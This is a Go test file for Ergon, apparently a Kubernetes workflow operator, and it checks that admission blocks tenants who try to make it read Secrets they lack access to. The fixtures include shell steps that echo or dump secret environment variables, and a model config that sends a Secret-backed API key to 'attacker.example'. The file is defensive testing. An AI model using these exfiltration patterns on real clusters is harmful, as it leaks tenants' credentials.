/*
Copyright 2026 The Ergon Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package security

import (
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	ergonv1alpha1 "github.com/ergon-dev/ergon/api/v1alpha1"
	"github.com/ergon-dev/ergon/internal/naming"
)

// The Secret the attacks are after, and a key of it.
const (
	victimSecret = "tracker"
	victimKey    = "token"
)

// createSecret makes the Secret, as the namespace's admin would.
func createSecret(ns string) {
	Expect(admin.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: victimSecret},
		StringData: map[string]string{victimKey: "s3cr3t"}})).To(Succeed())
}

func secretKey() corev1.SecretKeySelector {
	return corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: victimSecret}, Key: victimKey}
}

// shStep is a container step that runs a shell script.
func shStep(name, script string) ergonv1alpha1.Step {
	return ergonv1alpha1.Step{Name: name, Container: &ergonv1alpha1.ContainerStep{
		Image: "busybox:1.36", Command: []string{"sh", "-c", script}}}
}

func newScene(ns, name string, steps ...ergonv1alpha1.Step) *ergonv1alpha1.Scene {
	return &ergonv1alpha1.Scene{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
		Spec: ergonv1alpha1.SceneSpec{Steps: steps}}
}

// secretParamScene reads the Secret through a secret param in its first step only.
func secretParamScene(ns, name string) *ergonv1alpha1.Scene {
	s := newScene(ns, name,
		shStep("use", `curl -H "Authorization: $ERGON_PARAM_token" https://tracker.example/ > "$ERGON_OUTPUT"`),
		shStep("other", `echo unrelated > "$ERGON_OUTPUT"`))
	s.Spec.Params = []ergonv1alpha1.ParamSpec{{Name: "token", ValueFrom: &ergonv1alpha1.ParamValueSource{SecretKeyRef: secretKey()}}}
	return s
}

func newRun(ns, name, scene string, params map[string]string) *ergonv1alpha1.Run {
	return &ergonv1alpha1.Run{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
		Spec: ergonv1alpha1.RunSpec{SceneRef: corev1.LocalObjectReference{Name: scene}, Params: params}}
}

// refusedNaming expects an admission refusal whose message holds every part.
func refusedNaming(err error, parts ...string) {
	GinkgoHelper()
	Expect(err).To(HaveOccurred(), "admission accepted the object")
	Expect(apierrors.IsInvalid(err)).To(BeTrue(), "want Invalid, got %v", err)
	for _, p := range parts {
		Expect(err.Error()).To(ContainSubstring(p))
	}
}

var _ = Describe("Attack 6: a tenant makes Ergon read a Secret they cannot read", func() {
	var ns string
	var editor, editUser client.Client
	BeforeEach(func() {
		ns = newNamespace()
		createSecret(ns)
		editor = userClient(ns, "mallory-editor", roleErgonEditor)
		editUser = userClient(ns, "erin-edit", roleEdit)
	})

	It("refuses an ergon-editor's Scene whose step env, envFrom, secret param or model key names the Secret; accepts edit's", func() {
		envScene := newScene(ns, "env", shStep("leak", `echo "$T" > "$ERGON_OUTPUT"`))
		envScene.Spec.Steps[0].Container.Env = []corev1.EnvVar{{Name: "T", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: new(secretKey())}}}
		refusedNaming(editor.Create(ctx, envScene.DeepCopy()),
			"spec.steps[0].container.env[0].valueFrom.secretKeyRef", `Secret "tracker"`, "mallory-editor may not get")

		envFrom := newScene(ns, "envfrom", shStep("leak", `env > "$ERGON_OUTPUT"`))
		envFrom.Spec.Steps[0].Container.EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{
			LocalObjectReference: corev1.LocalObjectReference{Name: victimSecret}}}}
		refusedNaming(editor.Create(ctx, envFrom.DeepCopy()), "spec.steps[0].container.envFrom[0].secretRef", `Secret "tracker"`)

		param := secretParamScene(ns, "param")
		refusedNaming(editor.Create(ctx, param.DeepCopy()), "spec.params[0].valueFrom.secretKeyRef", `Secret "tracker"`)

		// A model's key sent to a baseURL the author chose: only someone who may read the key
		// may choose where it goes.
		model := newScene(ns, "model", ergonv1alpha1.Step{Name: "ask", Agent: &ergonv1alpha1.AgentStep{Prompt: "hi"}})
		model.Spec.Models = map[string]ergonv1alpha1.ModelSpec{"default": {
			BaseURL: "https://attacker.example/v1", Model: "m", APIKeySecretRef: new(secretKey())}}
		refusedNaming(editor.Create(ctx, model.DeepCopy()), "spec.models[default].apiKeySecretRef", `Secret "tracker"`)

		for _, s := range []*ergonv1alpha1.Scene{envScene, envFrom, param, model} {
			Expect(editUser.Create(ctx, s.DeepCopy())).To(Succeed(), "edit may read Secrets, so may use them: %s", s.Name)
		}
	})

	It("refuses an ergon-editor's change to a Scene that uses a Secret, such as moving its model's baseURL", func() {
		model := newScene(ns, "model", ergonv1alpha1.Step{Name: "ask", Agent: &ergonv1alpha1.AgentStep{Prompt: "hi"}})
		model.Spec.Models = map[string]ergonv1alpha1.ModelSpec{"default": {
			BaseURL: "https://llm.example/v1", Model: "m", APIKeySecretRef: new(secretKey())}}
		Expect(editUser.Create(ctx, model)).To(Succeed())

		stolen := model.DeepCopy()
		m := stolen.Spec.Models["default"]
		m.BaseURL = "https://attacker.example/v1"
		stolen.Spec.Models["default"] = m
		refusedNaming(editor.Update(ctx, stolen), "spec.models[default].apiKeySecretRef", `Secret "tracker"`)

		labelled := model.DeepCopy()
		labelled.Labels = map[string]string{"team": "a"}
		Expect(editor.Update(ctx, labelled)).To(Succeed(), "changing only metadata does not change what is done with the Secret")
	})

	It("refuses an ergon-editor's Scene that calls a Scene using the Secret: the child Run would read it", func() {
		Expect(editUser.Create(ctx, secretParamScene(ns, "uses-secret"))).To(Succeed())
		caller := newScene(ns, "caller", ergonv1alpha1.Step{Name: "call", Scene: &ergonv1alpha1.SceneCall{Name: "uses-secret"}})
		refusedNaming(editor.Create(ctx, caller.DeepCopy()), "spec.steps[0].scene.name", `Secret "tracker"`,
			"Scene uses-secret's spec.params[0].valueFrom.secretKeyRef")
		Expect(editUser.Create(ctx, caller)).To(Succeed())
	})

	It("refuses a webhook Trigger keyed by the Secret, and a Trigger of a Scene using it, from an ergon-editor", func() {
		Expect(editUser.Create(ctx, newScene(ns, "plain", shStep("a", "true")))).To(Succeed())
		hook := &ergonv1alpha1.Trigger{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "hook"}, Spec: ergonv1alpha1.TriggerSpec{
			SceneRef: corev1.LocalObjectReference{Name: "plain"},
			Webhook:  &ergonv1alpha1.WebhookSource{SecretRef: secretKey()}}}
		refusedNaming(editor.Create(ctx, hook.DeepCopy()), "spec.webhook.secretRef", `Secret "tracker"`)
		Expect(editUser.Create(ctx, hook)).To(Succeed())

		Expect(editUser.Create(ctx, secretParamScene(ns, "uses-secret"))).To(Succeed())
		cron := &ergonv1alpha1.Trigger{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "cron"}, Spec: ergonv1alpha1.TriggerSpec{
			SceneRef: corev1.LocalObjectReference{Name: "uses-secret"},
			Schedule: &ergonv1alpha1.ScheduleSource{Cron: "0 9 * * MON"}}}
		refusedNaming(editor.Create(ctx, cron.DeepCopy()), "spec.sceneRef.name", `Secret "tracker"`,
			"Scene uses-secret's spec.params[0].valueFrom.secretKeyRef")
		Expect(editUser.Create(ctx, cron)).To(Succeed())
	})

	It("refuses a run-creator's Run of a Scene using the Secret, and of a Scene not there yet; accepts edit's", func() {
		creator := userClient(ns, "rita-runs", roleRunCreator)
		Expect(editUser.Create(ctx, secretParamScene(ns, "uses-secret"))).To(Succeed())
		refusedNaming(creator.Create(ctx, newRun(ns, "r1", "uses-secret", nil)),
			"spec.sceneRef.name", `rita-runs may not get Secret "tracker"`, "Scene uses-secret's spec.params[0].valueFrom.secretKeyRef")
		refusedNaming(creator.Create(ctx, newRun(ns, "r2", "later", nil)), "spec.sceneRef.name", `Scene "later" does not exist yet`)

		Expect(editUser.Create(ctx, newScene(ns, "plain", shStep("a", "true")))).To(Succeed())
		Expect(creator.Create(ctx, newRun(ns, "r3", "plain", nil))).To(Succeed(), "a Scene without Secrets runs for anyone who may create Runs")
		Expect(editUser.Create(ctx, newRun(ns, "r4", "uses-secret", nil))).To(Succeed())
		Expect(editUser.Create(ctx, newRun(ns, "r5", "later", nil))).To(Succeed(), "edit may read every Secret of the namespace")
	})

	It("gives a secret param only to the step that names it", func() {
		Expect(editUser.Create(ctx, secretParamScene(ns, "uses-secret"))).To(Succeed())
		Expect(editUser.Create(ctx, newRun(ns, "r", "uses-secret", nil))).To(Succeed())

		pod := func(step string) *corev1.Pod {
			p := &corev1.Pod{}
			Eventually(func() error {
				return admin.Get(ctx, client.ObjectKey{Namespace: ns, Name: naming.StepPodName("r", step, 1)}, p)
			}).WithTimeout(30 * time.Second).Should(Succeed())
			return p
		}
		secretRefs := func(p *corev1.Pod) []string {
			var names []string
			for _, c := range append(p.Spec.InitContainers, p.Spec.Containers...) {
				for _, e := range c.Env {
					if e.ValueFrom != nil && e.ValueFrom.SecretKeyRef != nil {
						names = append(names, e.Name+"="+e.ValueFrom.SecretKeyRef.Name)
					}
				}
				for _, e := range c.EnvFrom {
					if e.SecretRef != nil {
						names = append(names, "envFrom="+e.SecretRef.Name)
					}
				}
			}
			for _, v := range p.Spec.Volumes {
				if v.Secret != nil {
					names = append(names, "volume="+v.Secret.SecretName)
				}
			}
			return names
		}
		Expect(secretRefs(pod("use"))).To(ConsistOf("ERGON_PARAM_token=tracker"))
		Expect(secretRefs(pod("other"))).To(BeEmpty(), "a step that does not name the param gets no reference to its Secret")
	})
})
